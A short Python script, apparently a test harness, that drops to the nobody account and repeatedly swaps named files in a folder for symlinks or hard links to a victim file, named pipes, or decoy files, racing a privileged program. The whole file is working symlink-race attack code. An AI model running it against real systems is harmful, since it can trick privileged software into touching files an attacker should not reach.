"""As the account nobody, puts links, pipes and files in the place of names until standard input ends.

argv: FOLDER VICTIM NAME...
"""

import os
import select
import sys

NOBODY = 65534
os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)

folder, victim, names = sys.argv[1], sys.argv[2], sys.argv[3:]


def spare(path):
    with open(path, "w") as file:
        file.write("4999999\n")


MAKERS = [
    lambda path: os.symlink(victim, path),
    lambda path: os.link(victim, path),
    lambda path: os.mkfifo(path),
    spare,
]


def swap(name, make):
    path, fresh = os.path.join(folder, name), os.path.join(folder, "fresh")
    try:
        make(fresh)
        os.rename(fresh, path)
    except OSError:
        pass
    for leftover in (fresh, path):
        try:
            os.unlink(leftover)
        except OSError:
            pass


print("begun", flush=True)
rounds = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    for name in names:
        swap(name, MAKERS[rounds % len(MAKERS)])
    rounds += 1
print(rounds)
